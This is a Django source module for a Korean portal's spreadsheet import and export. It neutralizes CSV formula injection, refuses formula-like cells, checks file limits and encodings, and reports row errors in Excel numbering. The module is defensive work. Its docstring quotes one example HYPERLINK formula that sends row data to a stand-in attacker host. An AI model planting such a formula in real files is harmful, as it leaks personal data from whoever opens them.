"""One rule for every CSV and Excel file the portal writes or reads: a cell is data, never a formula.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) as a formula, so a citizen named ``=HYPERLINK("http://evil.example/?"&A1,"클릭")`` would become a
live link that sends the row to a stranger when staff open the roster (CSV injection, OWASP). Following OWASP's
guidance, such a text cell is written with a leading apostrophe, which spreadsheet programs show as text; a
plain number (``-3``, ``+82``) is left alone. Imports refuse such cells with a row error instead of guessing.
"""

import re

import tablib
from django.conf import settings
from django.core.exceptions import NON_FIELD_ERRORS, FieldDoesNotExist
from django.utils.translation import gettext_lazy as _
from import_export.formats import base_formats
from import_export.tmp_storages import TempFolderStorage

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")

FORMULA_REFUSED = _(
    "‘%(value)s’처럼 =, +, -, @로 시작하는 값은 엑셀 수식으로 실행될 수 있어 받을 수 없습니다. "
    "앞의 기호를 지우거나 다른 말로 시작해 주세요."
)


def starts_like_a_formula(value):
    """True for a text value a spreadsheet program would run as a formula (plain numbers are not)."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not _PLAIN_NUMBER.fullmatch(value.strip())
    )


def neutralize(value):
    """``value`` as it may be written to a CSV or Excel cell."""
    return f"'{value}" if starts_like_a_formula(value) else value


def neutralize_row(values):
    return [neutralize(value) for value in values]


def neutralize_dataset(dataset):
    """A copy of a tablib ``Dataset`` with every cell (headers included) neutralized."""
    safe = tablib.Dataset(
        *(neutralize_row(row) for row in dataset),
        headers=neutralize_row(dataset.headers) if dataset.headers else None,
        title=dataset.title,
    )
    return safe


class ImportFileError(ValueError):
    """A file that cannot be imported, with the reason in Korean (shown on the import form)."""


def _check_limits(data, dataset=None):
    limit_mb = settings.IMPORT_MAX_MB
    if data is not None and len(data) > limit_mb * 1024 * 1024:
        raise ImportFileError(
            _("파일이 너무 큽니다. %(limit)dMB 이하로 나누어 올려 주세요.") % {"limit": limit_mb}
        )
    if dataset is not None and len(dataset) > settings.IMPORT_MAX_ROWS:
        raise ImportFileError(
            _("한 번에 %(limit)d행까지 가져올 수 있습니다(이 파일은 %(rows)d행). 파일을 나누어 올려 주세요.")
            % {"limit": settings.IMPORT_MAX_ROWS, "rows": len(dataset)}
        )
    return dataset


class _NeutralizingFormat:
    def export_data(self, dataset, **kwargs):
        return super().export_data(neutralize_dataset(dataset), **kwargs)


class XLSX(_NeutralizingFormat, base_formats.XLSX):
    def create_dataset(self, in_stream):
        _check_limits(in_stream)
        try:
            dataset = super().create_dataset(in_stream)
        except Exception as error:  # openpyxl: BadZipFile, InvalidFileException, KeyError…
            raise ImportFileError(
                _("엑셀(.xlsx) 파일로 읽을 수 없습니다. 엑셀에서 '다른 이름으로 저장' → 'Excel 통합 문서(.xlsx)'로 "
                  "저장한 파일인지 확인해 주세요.")
            ) from error  # fmt: skip
        return _check_limits(None, dataset)


class CSV(_NeutralizingFormat, base_formats.CSV):
    """CSV as Korean offices save it: UTF-8 (with or without a BOM) or Excel's CP949."""

    ENCODINGS = ("utf-8-sig", "cp949")

    def get_read_mode(self):
        return "rb"  # the bytes: the encoding is found here, not assumed

    def create_dataset(self, in_stream, **kwargs):
        _check_limits(in_stream if isinstance(in_stream, bytes) else None)
        if isinstance(in_stream, bytes):
            for encoding in self.ENCODINGS:
                try:
                    in_stream = in_stream.decode(encoding)
                    break
                except UnicodeDecodeError:
                    continue
            else:
                raise ImportFileError(
                    _(
                        "CSV 파일의 글자를 읽을 수 없습니다. UTF-8 또는 엑셀의 'CSV(쉼표로 분리)'(CP949)로 저장해 주세요."
                    )
                )
        self.encoding = None
        try:
            dataset = base_formats.TablibFormat.create_dataset(self, in_stream, **kwargs)
        except Exception as error:
            raise ImportFileError(_("CSV 파일로 읽을 수 없습니다. 파일 형식을 확인해 주세요.")) from error
        return _check_limits(None, dataset)


class _BytesTempFolderStorage(TempFolderStorage):
    """The uploaded file kept between the preview and the import. Read as bytes when the format asks for
    bytes (our CSV finds its own encoding), whatever text encoding the admin names."""

    def _open(self, mode="r"):
        if self.name and "b" in mode:
            return open(self.get_full_path(), mode)
        return super()._open(mode)


class ImportFileErrorsMixin:
    """For import-export admins: the reason a file cannot be read, in Korean, instead of the library's
    English exception name."""

    tmp_storage_class = _BytesTempFolderStorage

    def add_data_read_fail_error_to_form(self, form, e):
        message = (
            str(e)
            if isinstance(e, ImportFileError)
            else _("파일을 읽을 수 없습니다. 고른 형식(엑셀/CSV)과 같은 파일인지 확인해 주세요.")
        )
        form.add_error("import_file", message)


# The formats every back-office import/export offers: Excel first, CSV for other tools.
FORMATS = [XLSX, CSV]


class FormulaCellsRefusedMixin:
    """For import-export ``ModelResource``s: a row with a cell that starts like a formula is a row error (in
    Korean, naming the column), and nothing of it is written."""

    def import_instance(self, instance, row, **kwargs):
        from django.core.exceptions import ValidationError

        errors = {}
        for field in self.get_import_fields():
            column = field.column_name
            if column in row and starts_like_a_formula(row[column]):
                errors[field.attribute or column] = [FORMULA_REFUSED % {"value": str(row[column])[:40]}]
        if errors:
            raise ValidationError(errors)
        return super().import_instance(instance, row, **kwargs)


class DuplicateRowsRefusedMixin:
    """For import-export ``ModelResource``s: two rows of one file for the same record (the same business
    registration number, management number…) would silently overwrite each other, so every repeat of a key is a
    row error naming the row it repeats (rows numbered as Excel shows them: the header is row 1). Resources say
    what identifies a record with ``row_key(row)`` (None: the row has no key to compare)."""

    def row_key(self, row):
        raise NotImplementedError

    def before_import(self, dataset, **kwargs):
        self._first_row_of_key = {}
        for index, row in enumerate(dataset.dict):
            key = self.row_key(row)
            if key is not None:
                self._first_row_of_key.setdefault(key, index + 2)
        return super().before_import(dataset, **kwargs)

    def import_instance(self, instance, row, **kwargs):
        from django.core.exceptions import ValidationError

        key = self.row_key(row)
        number = kwargs.get("row_number")
        first = getattr(self, "_first_row_of_key", {}).get(key)
        if key is not None and number is not None and first is not None and first != number + 1:
            raise ValidationError(
                _("%(first)d행과 같은 기록입니다(%(key)s). 한 파일에 같은 기록은 한 번만 써 주세요.")
                % {"first": first, "key": " / ".join(str(part) for part in key)}
            )
        return super().import_instance(instance, row, **kwargs)


HEADER_ROWS = 1  # the first row of every import file holds the column names


def excel_row_number(data_row_number):
    """import-export counts data rows from 1; Excel shows the header as row 1, so data starts at row 2."""
    return data_row_number + HEADER_ROWS


class ExcelRowsMixin:
    """For import-export ``ModelResource``s: the preview's error tables as staff read their file — rows
    numbered as Excel numbers them, errors named by the file's column (조합원 수, not ``members_count``),
    empty cells empty (not ``None``)."""

    def column_of(self, key):
        """The column (or, for a model field the file has no column for, its verbose name) an error is about."""
        if key == NON_FIELD_ERRORS:
            return key
        for field in self.get_import_fields():
            if key in (field.attribute, field.column_name) or (field.attribute or "").split("__")[0] == key:
                return field.column_name
        try:
            return str(self._meta.model._meta.get_field(key).verbose_name)
        except FieldDoesNotExist:
            return key

    def row_error_messages(self, validation_error):
        """One line per error, "column: message" where the error is about a column."""
        try:
            items = validation_error.message_dict.items()
        except AttributeError:
            return list(validation_error.messages)
        return [
            message if key == NON_FIELD_ERRORS else f"{self.column_of(key)}: {message}"
            for key, messages in items
            for message in messages
        ]

    def import_data(self, *args, **kwargs):
        result = super().import_data(*args, **kwargs)
        for invalid in result.invalid_rows:
            invalid.number = excel_row_number(invalid.number)
            invalid.values = tuple("" if value is None else value for value in invalid.values)
            renamed = {}
            for key, messages in invalid.error_dict.items():
                renamed.setdefault(self.column_of(key), []).extend(messages)
            invalid.error_dict = renamed
        for error_row in result.error_rows:
            error_row.number = excel_row_number(error_row.number)
        rows = result.rows
        # The template lists critical errors with their line through ``row_errors()``.
        result.row_errors = lambda: [
            (excel_row_number(index), row.errors) for index, row in enumerate(rows, 1) if row.errors
        ]
        return result
